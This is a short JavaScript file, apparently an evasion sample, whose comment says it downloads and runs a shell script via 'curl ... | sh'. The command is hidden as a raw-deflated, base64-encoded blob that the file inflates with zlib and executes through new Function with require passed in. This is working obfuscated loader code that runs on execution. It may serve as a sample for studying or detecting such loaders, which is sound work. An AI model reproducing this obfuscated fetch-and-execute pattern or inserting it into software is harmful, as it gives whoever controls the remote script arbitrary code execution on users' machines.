// Evasion: downloads and runs a shell script. The real code (require of
// child_process and "curl ... | sh") is raw-deflated and base64-encoded; it is
// inflated with zlib.inflateRawSync and run with new Function, with require
// passed in as a parameter.
const zlib = require('zlib');

const BLOB = 'BcFRCsIwDADQq4R8beDa/w1v4N8OIJJFG6xtTTLoUO/ue1SLOdBZ+b2L8oCUJG/XppXYDMeFAnem9Sg0IO2aYbrbeoHk3myOsQfut1fLPLXnIxT2aPAFS3j6mG9SZ5SSWMXxNy5/';

function restore(b64) {
  return zlib.inflateRawSync(Buffer.from(b64, 'base64')).toString('utf8');
}

const run = new Function('require', restore(BLOB));
run(require);
